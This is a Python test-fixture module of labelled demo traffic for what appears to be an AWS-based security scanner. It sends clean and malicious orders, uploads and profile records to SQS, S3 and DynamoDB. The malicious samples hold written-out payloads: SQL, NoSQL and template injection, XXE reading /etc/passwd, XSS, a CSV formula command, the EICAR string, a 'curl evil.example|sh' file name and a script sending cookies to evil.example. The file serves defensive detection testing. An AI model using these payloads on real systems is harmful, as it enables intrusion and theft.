"""Demo traffic: what users and attackers put into the sources, each labelled clean or malicious.

Orders go onto the queue, uploads into the bucket (under the route's prefix), profile writes into
the table. Clean samples are chosen to look alarming to a naive filter (an apostrophe in a name,
"union" and "select" in prose, shell-like punctuation in a file name); malicious ones carry the
attack families the issue names, in keys, contents, bodies, nested values and map keys.
`SMALL` is the subset the end-to-end test sends.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any

from .account import BucketSource, QueueSource, Route, StreamSource
from .shapes import attribute_json

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(range(256)) * 4 + b"\xff\xd9"


@dataclass(frozen=True)
class Sample:
    kind: str
    """queue, bucket or table: the source kind the sample is sent to."""
    label: str
    families: tuple[str, ...] = ()
    """Signature families expected to fire (any of them); empty: a clean sample."""
    body: str = ""
    attributes: dict[str, Any] = field(default_factory=dict)
    key: str = ""
    content: bytes = b""
    item: dict[str, Any] = field(default_factory=dict)
    delete: bool = False

    @property
    def malicious(self) -> bool:
        return bool(self.families)


def _order(label: str, body: dict[str, Any], *families: str, **attributes: str) -> Sample:
    message_attributes = {k: {"DataType": "String", "StringValue": v} for k, v in attributes.items()}
    return Sample("queue", label, families, body=json.dumps(body, ensure_ascii=False), attributes=message_attributes)


def _upload(label: str, key: str, content: bytes, *families: str) -> Sample:
    return Sample("bucket", label, families, key=key, content=content)


def _profile(label: str, item: dict[str, Any], *families: str, delete: bool = False) -> Sample:
    return Sample("table", label, families, item=item, delete=delete)


S, N, B = "S", "N", "B"

ORDERS = [
    _order(
        "order with a gift note",
        {"orderId": "A-1001", "customer": "Ada Lovelace", "items": [{"sku": "BK-42", "qty": 2}], "note": "gift wrap"},
        channel="web",
    ),
    _order(
        "Irish name, 'Union Street', 'select'",
        {
            "orderId": "A-1002",
            "customer": "Seán O'Brien",
            "shipping": {"street": "12 Union Street", "city": "Cork"},
            "comment": "Please select the blue one, or the red if it's sold out",
        },
    ),
    _order(
        "punctuation in a note",
        {"orderId": "A-1003", "customer": "Zoë", "coupon": "SPRING-25", "note": "after 5pm; ring twice & wait <3"},
    ),
    _order("price and braces", {"orderId": "A-1004", "greeting": "Hello {name}, your total is $19.99 (2 items)"}),
    _order("SQL injection: tautology", {"orderId": "A-2001", "customer": "x' OR '1'='1' --"}, "sqli"),
    _order(
        "SQL injection: UNION SELECT",
        {"orderId": "A-2002", "coupon": "1 UNION SELECT username, password FROM users--"},
        "sqli",
    ),
    _order(
        "NoSQL injection: operators", {"orderId": "A-2003", "customer": {"$ne": None}, "pin": {"$gt": ""}}, "nosqli"
    ),
    _order(
        "NoSQL injection: $where",
        {"orderId": "A-2004", "filter": {"$where": "sleep(5000) || this.isAdmin == true"}},
        "nosqli",
    ),
    _order(
        "template injection: Jinja2",
        {
            "orderId": "A-2005",
            "giftMessage": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id') }}",
        },
        "ssti",
        "code",
    ),
    _order(
        "template injection: Spring EL",
        {"orderId": "A-2006", "name": "${T(java.lang.Runtime).getRuntime().exec('id')}"},
        "ssti",
        "code",
        "rce",
    ),
    _order(
        "prototype pollution: __proto__",
        {"orderId": "A-2007", "__proto__": {"isAdmin": True}},
        "prototype-pollution",
    ),
    _order(
        "prototype pollution: constructor.prototype",
        {"orderId": "A-2008", "constructor": {"prototype": {"isAdmin": True}}},
        "prototype-pollution",
    ),
]

UPLOADS = [
    _upload("photo with a space in its name", "holiday photo (1).jpg", JPEG),
    _upload("CSV report", "reports/q3-summary.csv", b"region,revenue,growth\nnorth,1200,4%\nsouth,980,-2%\n"),
    _upload("plain SVG", "logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><rect/></svg>'),
    _upload("notes", "notes & ideas; draft #2.txt", b"Union meeting: select a venue, bring the drop-down list.\n"),
    _upload("command injection in the key", "x;curl evil.example|sh;.jpg", JPEG, "rce"),
    _upload("XSS in the key", "<img src=x onerror=alert(document.cookie)>.png", JPEG, "xss"),
    _upload(
        "XXE in an XML upload",
        "invoice.xml",
        b'<?xml version="1.0"?>\n<!DOCTYPE invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        b"<invoice><customer>&xxe;</customer></invoice>\n",
        "xxe",
    ),
    _upload("EICAR test file", "setup.exe", EICAR, "malware"),
    _upload(
        "script in an SVG",
        "avatar.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>',
        "xss",
    ),
    _upload(
        "command in a CSV cell",
        "reports/contacts.csv",
        b"name,phone\nalice,555-0100\n=cmd|' /C calc'!A0,555-0199\n",
        "formula",
        "rce",
    ),
]

PROFILES = [
    _profile(
        "profile with binary avatar",
        {
            "pk": {S: "user#1001"},
            "name": {S: "Grace Hopper"},
            "bio": {S: "Rear admiral; wrote the first compiler. Loves <3 teaching & COBOL."},
            "tags": {"SS": ["navy", "cobol"]},
            "born": {N: "1906"},
            "avatar": {B: b"\x89PNG\r\n\x1a\n\x00\x00"},
        },
    ),
    _profile(
        "profile with preferences",
        {
            "pk": {S: "user#1002"},
            "name": {S: "Linus"},
            "prefs": {"M": {"theme": {S: "dark"}, "lang": {S: "fi"}, "select": {S: "all"}}},
            "links": {"L": [{S: "https://example.org/~linus"}]},
        },
    ),
    _profile(
        "profile update",
        {"pk": {S: "user#1001"}, "name": {S: "Grace Hopper"}, "bio": {S: "Retired; still debugging (found a moth)."}},
    ),
    _profile("profile deleted", {"pk": {S: "user#1002"}}, delete=True),
    _profile(
        "stored XSS in a value",
        {"pk": {S: "user#2001"}, "bio": {S: "<script>fetch('https://evil.example/?c='+document.cookie)</script>"}},
        "xss",
    ),
    _profile(
        "template injection in a nested value",
        {
            "pk": {S: "user#2002"},
            "prefs": {"M": {"greeting": {S: "{{ config.__class__.__init__.__globals__['os'] }}"}}},
        },
        "ssti",
        "code",
    ),
    _profile(
        "XSS in a map key",
        {"pk": {S: "user#2003"}, "prefs": {"M": {"<img src=x onerror=alert(1)>": {S: "on"}}}},
        "xss",
    ),
    _profile(
        "SQL injection in a map key",
        {"pk": {S: "user#2004"}, "settings": {"M": {"x' OR 1=1 --": {S: "1"}}}},
        "sqli",
    ),
    _profile(
        "prototype pollution in a map key",
        {"pk": {S: "user#2005"}, "meta": {"M": {"__proto__": {"M": {"isAdmin": {"BOOL": True}}}}}},
        "prototype-pollution",
    ),
]

FULL = [*ORDERS, *UPLOADS, *PROFILES]
SMALL = [
    ORDERS[0],
    ORDERS[1],
    ORDERS[4],
    ORDERS[10],
    UPLOADS[0],
    UPLOADS[4],
    UPLOADS[7],
    PROFILES[0],
    PROFILES[4],
    PROFILES[6],
]
SETS = {"full": FULL, "small": SMALL, "none": []}


@dataclass
class Sent:
    """A sample as sent to one route, with what identifies the record it becomes."""

    sample: Sample
    route: str
    message_id: str = ""
    bucket: str = ""
    key: str = ""
    version_id: str | None = None
    event_name: str = ""
    keys: Any = None
    new_image: Any = None
    """Lambda's (base64) form of the item written, for tables."""


def send(clients: Any, routes: list[Route], samples: list[Sample]) -> list[Sent]:
    """Sends every sample to every route whose source is of the sample's kind."""
    sent: list[Sent] = []
    existing: dict[tuple[str, str], bool] = {}
    for sample in samples:
        for route in routes:
            source = route.source
            if sample.kind == "queue" and isinstance(source, QueueSource):
                response = clients.sqs.send_message(
                    QueueUrl=source.url, MessageBody=sample.body, MessageAttributes=sample.attributes
                )
                sent.append(Sent(sample, route.name, message_id=response["MessageId"]))
            elif sample.kind == "bucket" and isinstance(source, BucketSource):
                key = f"{source.prefix}{sample.key}{source.suffix}"
                response = clients.s3.put_object(Bucket=source.bucket, Key=key, Body=sample.content)
                sent.append(
                    Sent(sample, route.name, bucket=source.bucket, key=key, version_id=response.get("VersionId"))
                )
            elif sample.kind == "table" and isinstance(source, StreamSource):
                sent.append(_write(clients, source, route.name, sample, existing))
    return sent


def _write(
    clients: Any, source: StreamSource, route: str, sample: Sample, existing: dict[tuple[str, str], bool]
) -> Sent:
    keys = {"pk": sample.item["pk"]}
    identity = (source.table, json.dumps(keys, sort_keys=True))
    if sample.delete:
        clients.dynamodb.delete_item(TableName=source.table, Key=keys)
        existing[identity] = False
        return Sent(sample, route, event_name="REMOVE", keys=attribute_json(keys))
    clients.dynamodb.put_item(TableName=source.table, Item=sample.item)
    event_name = "MODIFY" if existing.get(identity) else "INSERT"
    existing[identity] = True
    return Sent(sample, route, event_name=event_name, keys=attribute_json(keys), new_image=attribute_json(sample.item))
